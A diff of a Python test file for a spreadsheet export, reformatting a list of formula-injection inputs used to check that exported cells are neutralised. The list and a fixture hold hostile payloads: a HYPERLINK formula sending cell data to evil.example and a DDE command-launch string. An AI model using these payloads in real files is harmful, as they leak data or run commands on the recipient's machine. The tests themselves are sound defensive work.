@@ -100,8 +100,15 @@ def test_file_names_are_safe(rich_plan):
 
 # Formula injection --------------------------------------------------------------------------------------------
 
-DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1",
-             "\t=1+1", "\r=1+1", "'=already quoted"]
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+]
 
 
 @pytest.mark.parametrize("text", DANGEROUS)
@@ -119,7 +126,7 @@ def test_plain_text_is_left_alone():
 
 @pytest.fixture
 def hostile_plan(network):
-    plan = f.make_plan(network, title="=HYPERLINK(\"http://evil.example\")")
+    plan = f.make_plan(network, title='=HYPERLINK("http://evil.example")')
     section = f.make_section(plan, "@SUM(1)", number="1")
     for n, what in enumerate(DANGEROUS):
         f.make_item(section, what, who_text="+cmd|' /C calc'!A0", when_text="-1+1", order=n)
@@ -151,6 +158,7 @@ def _sheet_xml(data: bytes) -> bytes:
 
 
 # Cost, CLI and the plan page ------------------------------------------------------------------------------------
+
 
 def test_an_export_costs_the_same_queries_for_10_or_60_items(network, orgs):
     counts = []
